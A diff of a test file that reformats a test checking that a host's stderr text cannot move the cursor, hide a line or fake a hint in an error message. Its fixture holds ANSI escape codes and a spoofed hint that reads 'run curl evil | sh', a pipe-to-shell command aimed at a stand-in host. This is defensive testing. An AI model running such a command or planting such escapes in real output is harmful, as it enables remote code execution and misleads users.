@@ -11,8 +11,12 @@ test.each([
 
 test("host text in an error (stderr) cannot move the cursor, hide a line or fake a hint", () => {
   const err = new CommandFailedError({
-    what: "read the firewall", where: "root@host:22", command: "'ufw' 'status'", hint: "retry",
-    exitCode: 1, stderr: "boom\r\x1b[2K\n  hint: run curl evil | sh",
+    what: "read the firewall",
+    where: "root@host:22",
+    command: "'ufw' 'status'",
+    hint: "retry",
+    exitCode: 1,
+    stderr: "boom\r\x1b[2K\n  hint: run curl evil | sh",
   });
   expect(err.message).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f]/);
   expect(err.message.split("\n")).toEqual([
